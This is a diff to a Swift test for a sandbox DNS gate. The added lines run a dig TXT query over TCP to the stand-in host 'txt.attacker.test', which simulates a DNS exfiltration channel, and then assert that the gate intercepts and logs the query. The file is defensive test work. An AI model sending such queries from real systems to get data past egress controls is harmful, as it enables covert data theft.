@@ -108,6 +108,9 @@ final class LearnCollector: GateObserver, @unchecked Sendable {
         let bypass = inSandbox("dig +time=2 +tries=1 @\(NetlabAddresses.publicResolver4) x.allowed.test")
         // x.allowed.test is an empty non-terminal upstream (deep.x.allowed.test exists): NOERROR, no data.
         #expect(bypass.output.contains("status: NOERROR") && bypass.output.contains("SERVER: \(NetlabAddresses.publicResolver4)"), "\(bypass.output)")
+        // Over TCP too, and a type enforce mode never forwards: learn mode forwards it (fresh) and records it.
+        let tcpBypass = inSandbox("dig +tcp +time=2 +tries=1 @\(NetlabAddresses.publicResolver4) TXT txt.attacker.test")
+        #expect(tcpBypass.output.contains("exfil-channel"), "\(tcpBypass.output)")
         let hello = "import socket,ssl,sys\nc=ssl.create_default_context()\ns=socket.create_connection((sys.argv[1],443),timeout=3)\n"
             + "try: c.wrap_socket(s, server_hostname=sys.argv[2])\nexcept Exception as e: print(type(e).__name__)\n"
         try hello.write(toFile: lab.directory + "/hello.py", atomically: true, encoding: .utf8)
@@ -146,6 +149,10 @@ final class LearnCollector: GateObserver, @unchecked Sendable {
         #expect(pcap.contains { $0.isResponse && $0.name == "x.allowed.test" && $0.resolver?.description == NetlabAddresses.publicResolver4 && $0.rcode == 0 })
         #expect(pcap.contains { !$0.isResponse && $0.name == "www.allowed.test" && $0.resolver?.description == gateway4 })
         #expect(pcap.contains { $0.isResponse && $0.name == "assets.allowed.test" && $0.answers.count == 3 })
+        #expect(pcap.contains { !$0.isResponse && $0.transport == "tcp" && $0.name == "txt.attacker.test" && $0.type == DNSType.txt
+                                && $0.resolver?.description == NetlabAddresses.publicResolver4 })
+        #expect(pcap.contains { $0.isResponse && $0.transport == "tcp" && $0.name == "txt.attacker.test" && $0.answers.count == 1 })
+        #expect(gateSeen.contains { $0.name == "txt.attacker.test" && $0.type == DNSType.txt && $0.transport == "tcp" && $0.answers.count == 1 })
         // The bypassing query went to the gate, not out: the public resolver (an attacker sink) saw nothing.
         #expect(lab.sinkRecords().filter { $0.contains(NetlabAddresses.publicResolver4) }.isEmpty)
 
